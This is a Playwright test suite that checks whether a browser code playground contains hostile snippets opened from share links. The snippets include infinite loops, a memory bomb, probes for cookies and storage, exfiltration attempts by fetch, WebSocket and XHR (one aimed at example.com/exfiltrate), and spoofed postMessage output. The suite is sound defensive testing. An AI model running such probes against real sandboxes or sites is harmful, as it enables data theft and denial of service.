// Hostile snippets: each one arrives the way untrusted code does - in a shared
// link - and each must fail to do harm. The link alone runs nothing; after
// Run, the page stays responsive, budgets stop runaway programs, the sandbox
// has no storage, cookies, page or network, and nothing it posts is trusted.
// Every request of the suite stays on 127.0.0.1 (and none is made for the
// snippets' targets).
import { createServer, type Server } from 'node:http';
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { contextOptions, launchBrowser, trackRequests } from './harness.ts';
import { aliveDuringRun, consoleLines, consoleNotes, replaceCode, servePlayground, shareHash, waitForEditor, waitForRunEnd, type BuiltSite } from '../playground/browser-helpers.ts';

const sites: BuiltSite[] = process.env.PLAYGROUND_DIST ? [{ name: 'dev', dir: process.env.PLAYGROUND_DIST, base: '/' }] : inject('sites').slice(0, 1);
const site = sites[0]!;

let browser: Browser;
let context: BrowserContext;
let url: string;
let close: () => Promise<void>;
const allRequests: string[] = [];
/** Requests the browser refused to send because of the CSP (Playwright still reports them as requests). */
const blockedByCsp = new Set<string>();
const offHost: string[] = [];
/** A second server on 127.0.0.1 that the snippets try to reach: it must receive nothing. */
let trap: Server;
let trapUrl: string;
const trapHits: string[] = [];

beforeAll(async () => {
  trap = createServer((req, res) => {
    trapHits.push(req.url ?? '');
    res.setHeader('Access-Control-Allow-Origin', '*');
    res.end('stolen');
  });
  await new Promise<void>((ok) => trap.listen(0, '127.0.0.1', ok));
  trapUrl = `http://127.0.0.1:${(trap.address() as { port: number }).port}/`;
  browser = await launchBrowser();
  ({ url, close } = await servePlayground(site));
  context = await browser.newContext(contextOptions);
});
afterAll(async () => {
  await context?.close();
  await browser?.close();
  await close?.();
  await new Promise((ok) => trap?.close(ok));
});

/** Opens a share link carrying `code`; checks that nothing ran; returns the page. */
async function openShared(code: string): Promise<Page> {
  const page = await context.newPage();
  const requests = trackRequests(page);
  page.on('request', (r) => allRequests.push(r.url()));
  page.on('requestfailed', (r) => {
    if (r.failure()?.errorText === 'csp') blockedByCsp.add(r.url());
  });
  page.on('close', () => offHost.push(...requests.offHost().filter((u) => !blockedByCsp.has(u))));
  await page.goto(`${url}en/playground/${shareHash(code)}`, { waitUntil: 'load' });
  await page.waitForFunction(() => document.querySelector('[data-playground]')?.hasAttribute('data-mounted'));
  await page.waitForTimeout(300);
  // A shared link never runs by itself.
  expect(await page.locator('details.pg-run-block').count()).toBe(0);
  expect(await page.locator('iframe[sandbox]').count()).toBe(0);
  // The editor loads with the full page; wait for it so that what is measured is the run.
  await waitForEditor(page);
  return page;
}

async function run(page: Page, timeout = 20_000): Promise<string> {
  await page.getByRole('button', { name: 'Run' }).click();
  return waitForRunEnd(page, 0, timeout);
}

/** Runs a harmless program in the same playground afterwards: a fresh worker serves it. */
async function nextRunWorks(page: Page): Promise<void> {
  await replaceCode(page, "console.log('still alive');");
  expect(await run(page)).toBe('ok');
  expect(await consoleLines(page)).toEqual(['still alive']);
}

describe('hostile snippets from a shared link', () => {
  test('while (true) {} is stopped by the wall-time budget; the page stays responsive', async () => {
    const page = await openShared("console.log('spinning');\nwhile (true) {}\n");
    let state = '';
    const alive = await aliveDuringRun(page, async () => {
      state = await run(page, 15_000);
    });
    expect(state).toBe('timeout');
    expect(await consoleLines(page)).toEqual(['spinning']);
    expect(await consoleNotes(page)).toMatch(/more than 5 s of real time the program did not hand control back to the loop/);
    // While the program spun, the page answered again and again and kept drawing frames.
    expect(alive.answersWhileRunning).toBeGreaterThan(1);
    expect(alive.framesWhileRunning).toBeGreaterThan(0);
    await nextRunWorks(page);
    await page.close();
  });

  test('while (true) await sleep(1) is stopped by the runtime budget', async () => {
    const page = await openShared("import { sleep } from 'miniloop';\nwhile (true) await sleep(1);\n");
    const state = await run(page);
    expect(state).toBe('failed');
    expect(await consoleNotes(page)).toMatch(/step limit: the program ran more than 300,000 steps/);
    await page.close();
  });

  test('a million console.log lines: capped, counted, page responsive', async () => {
    const page = await openShared('for (let i = 0; i < 1_000_000; i++) console.log(i);\n');
    let state: string;
    state = await run(page);
    expect(state).toBe('failed'); // the runtime's output budget stopped it
    const lines = await consoleLines(page);
    expect(lines.length).toBe(2000);
    // The head as printed, then the tail: the last 1,000 lines, where a runaway program ended up.
    expect(lines.slice(0, 3)).toEqual(['0', '1', '2']);
    expect(lines[999]).toBe('999');
    const tailStart = Number(lines[1000]);
    expect(tailStart).toBeGreaterThan(1000);
    expect(lines.slice(1000)).toEqual(Array.from({ length: 1000 }, (_, i) => String(tailStart + i)));
    // The note of what is not shown sits between head and tail.
    expect(await page.evaluate(() => document.querySelector('.pg-skipped')?.previousElementSibling?.textContent?.includes('999'))).toBe(true);
    const notes = await consoleNotes(page);
    expect(notes).toMatch(/more lines were printed and are not shown/);
    expect(notes).toMatch(/output|lines/i);
    // The page answers, and it drew only the lines it keeps.
    expect(await page.evaluate(() => document.querySelectorAll('[data-playground] .pg-line').length)).toBe(2000);
    await page.close();
  });

  test('a memory bomb: the worker dies or is stopped, the page is fine, the next run works', async () => {
    const page = await openShared('const keep: number[][] = [];\nwhile (true) keep.push(new Array(1_000_000).fill(7));\n');
    const state = await run(page, 20_000);
    expect(['timeout', 'crash', 'failed']).toContain(state);
    expect(await page.evaluate(() => 1 + 1)).toBe(2);
    await nextRunWorks(page);
    await page.close();
  });

  test('storage, cookies and the page are out of reach', async () => {
    const probe = `
const tries: Record<string, () => unknown> = {
  localStorage: () => (globalThis as any).localStorage.getItem('x'),
  sessionStorage: () => (globalThis as any).sessionStorage.getItem('x'),
  indexedDB: () => (globalThis as any).indexedDB.open('x'),
  cookie: () => (globalThis as any).document.cookie,
  parentDocument: () => (globalThis as any).parent.document.title,
  topDocument: () => (globalThis as any).top.document.title,
};
for (const [name, attempt] of Object.entries(tries)) {
  try {
    const value = attempt();
    console.log(name + ': READ ' + String(value));
  } catch (error) {
    console.log(name + ': blocked');
  }
}
`;
    const page = await openShared(probe);
    // Things worth stealing: a cookie, and another playground's saved code.
    await page.evaluate(() => {
      document.cookie = 'secret=cookie-value; path=/';
      localStorage.setItem('miniloop-playground:en/introduction|introduction/hello|00000000', 'SECRET CODE');
    });
    expect(await run(page)).toBe('ok');
    expect(await consoleLines(page)).toEqual([
      'localStorage: blocked',
      'sessionStorage: blocked',
      'indexedDB: blocked',
      'cookie: blocked',
      'parentDocument: blocked',
      'topDocument: blocked',
    ]);
    expect(await page.evaluate(() => localStorage.getItem('miniloop-playground:en/introduction|introduction/hello|00000000'))).toBe('SECRET CODE');
    await page.close();
  });

  test('fetch, XMLHttpRequest, WebSocket, importScripts, EventSource and workers reach nothing', async () => {
    const sameSite = `${url}exfiltrate`;
    // Calls are made without awaiting: a host promise never settles inside the
    // loop's synchronous run. Synchronous XHR and the constructors report at
    // once; for the others the proof is the request log, after the program
    // kept its worker alive for a second of real time.
    const probe = `
const target = ${JSON.stringify(trapUrl)};
const sameSite = ${JSON.stringify(sameSite)};
const g = globalThis as any;
const tries: Record<string, () => unknown> = {
  syncXhr: () => { const x = new g.XMLHttpRequest(); x.open('GET', target + 'xhr', false); x.send(); },
  importScripts: () => g.importScripts(sameSite + '-import'),
  worker: () => new g.Worker(sameSite + '-worker'),
  fetch: () => void g.fetch(target + 'fetch').catch(() => {}),
  fetchSameSite: () => void g.fetch(sameSite + '-fetch').catch(() => {}),
  fetchOffHost: () => void g.fetch('https://example.com/exfiltrate').catch(() => {}),
  webSocket: () => new g.WebSocket(target.replace('http:', 'ws:') + 'ws'),
  eventSource: () => new g.EventSource(target + 'sse'),
  image: () => { const i = new g.Image(); i.src = target + 'img'; },
};
for (const [name, attempt] of Object.entries(tries)) {
  try {
    attempt();
    console.log(name + ': no error');
  } catch {
    console.log(name + ': blocked');
  }
}
const until = g.performance.now() + 1000;
while (g.performance.now() < until) {}
`;
    const page = await openShared(probe);
    expect(await run(page)).toBe('ok');
    const lines = await consoleLines(page);
    expect(lines.slice(0, 3)).toEqual(['syncXhr: blocked', 'importScripts: blocked', 'worker: blocked']);
    expect(lines).toHaveLength(9);
    await page.waitForTimeout(500);
    // Nothing reached the trap server, and every attempt the browser saw was refused by the CSP.
    expect(trapHits).toEqual([]);
    const attempts = allRequests.filter((u) => u.startsWith(trapUrl) || /exfiltrate/.test(u));
    expect(attempts.filter((u) => !blockedByCsp.has(u))).toEqual([]);
    await page.close();
  });

  test('posting messages to the page (to spoof output or another playground) is refused or ignored', async () => {
    const probe = `
const g = globalThis as any;
const fake = (id: number) => ({ type: 'lines', id, lines: [{ t: 0, task: 'main', level: 'log', text: 'SPOOFED' }] });
const tries: Record<string, () => unknown> = {
  postMessage: () => { for (let id = 0; id < 50; id++) g.postMessage(fake(id)); },
  prototype: () => { for (let id = 0; id < 50; id++) Object.getPrototypeOf(g).postMessage.call(g, fake(id)); },
  chain: () => { let o = g; while (o) { const d = Object.getOwnPropertyDescriptor(o, 'postMessage'); if (d && typeof d.value === 'function') d.value.call(g, fake(1)); o = Object.getPrototypeOf(o); } throw new Error('none worked'); },
  parent: () => g.parent.postMessage(fake(1), '*'),
  done: () => g.postMessage({ type: 'done', id: 1, status: 'ok', problems: [], total: 0, endTime: 0 }),
};
for (const [name, attempt] of Object.entries(tries)) {
  try {
    await attempt();
    console.log(name + ': SENT');
  } catch {
    console.log(name + ': blocked');
  }
}
`;
    const page = await openShared(probe);
    expect(await run(page)).toBe('ok');
    expect(await consoleLines(page)).toEqual(['postMessage: blocked', 'prototype: blocked', 'chain: blocked', 'parent: blocked', 'done: blocked']);
    const consoleText = () => page.locator('[data-console]').innerText();
    expect(await consoleText()).not.toContain('SPOOFED');
    // A message posted to the page by anyone but the sandbox's port is ignored.
    await page.evaluate(() => {
      for (let id = 0; id < 50; id++) window.postMessage({ type: 'lines', id, lines: [{ t: 0, task: 'main', level: 'log', text: 'SPOOFED' }] }, '*');
    });
    await page.waitForTimeout(300);
    expect(await consoleText()).not.toContain('SPOOFED');
    await page.close();
  });

  test('no request of the suite left 127.0.0.1', () => {
    expect(allRequests.length).toBeGreaterThan(0);
    expect(offHost).toEqual([]);
  });
});
